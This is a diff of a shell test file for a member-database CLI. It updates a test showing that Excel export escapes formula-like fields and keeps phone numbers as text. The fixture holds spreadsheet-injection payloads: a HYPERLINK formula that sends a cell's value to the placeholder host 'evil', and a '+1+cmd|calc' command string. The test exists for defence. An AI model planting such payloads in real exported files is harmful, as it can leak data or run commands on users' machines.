@@ -150,16 +150,16 @@ last_audit() { q 'SELECT MAX(id) FROM audit'; }
 	[ "$(grep -c $'\r$' x.tsv)" -eq 6 ]
 }
 
-@test "export --excel: a field a spreadsheet would run as a formula gets a leading quote; numbers stay numbers" {
+@test "export --excel: a field a spreadsheet would run as a formula gets a leading quote; numbers stay numbers; a phone stays text" {
 	printf '%s\n' 'member_no,name,phone,note' \
 		'B1,"=HYPERLINK(""http://evil/?""&A1,""x"")",13800000001,+1+cmd|calc' \
 		'B2,@SUM(1),13800000002,-2' 'B3,-12.50,13800000003,- dash' 'B4,Plain,13800000004,=1+1' >inj.csv
 	mbr-add -q inj.csv
 	mbr-member --reveal export --excel --format csv >x.csv
-	[ "$(grep -a ',B1,' x.csv | cut -d, -f2- | tr -d '\r')" = "B1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",13800000001,,,,,,active,0,2026-11-22,'+1+cmd|calc" ]
-	[ "$(grep -a ',B2,' x.csv | cut -d, -f2- | tr -d '\r')" = "B2,'@SUM(1),13800000002,,,,,,active,0,2026-11-22,-2" ]
-	[ "$(grep -a ',B3,' x.csv | cut -d, -f2- | tr -d '\r')" = "B3,-12.50,13800000003,,,,,,active,0,2026-11-22,'- dash" ]
-	[ "$(grep -a ',B4,' x.csv | cut -d, -f2- | tr -d '\r')" = "B4,Plain,13800000004,,,,,,active,0,2026-11-22,'=1+1" ]
+	[ "$(grep -a ',B1,' x.csv | cut -d, -f2- | tr -d '\r')" = "B1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",\"=\"\"13800000001\"\"\",,,,,,active,0,2026-11-22,'+1+cmd|calc" ]
+	[ "$(grep -a ',B2,' x.csv | cut -d, -f2- | tr -d '\r')" = "B2,'@SUM(1),\"=\"\"13800000002\"\"\",,,,,,active,0,2026-11-22,-2" ]
+	[ "$(grep -a ',B3,' x.csv | cut -d, -f2- | tr -d '\r')" = "B3,-12.50,\"=\"\"13800000003\"\"\",,,,,,active,0,2026-11-22,'- dash" ]
+	[ "$(grep -a ',B4,' x.csv | cut -d, -f2- | tr -d '\r')" = "B4,Plain,\"=\"\"13800000004\"\"\",,,,,,active,0,2026-11-22,'=1+1" ]
 	# masked output too ("@******"), and TSV
 	mbr-member export --excel --format tsv >x.tsv
 	[ "$(grep -a $'\tB2\t' x.tsv | cut -f3)" = "'@******" ]
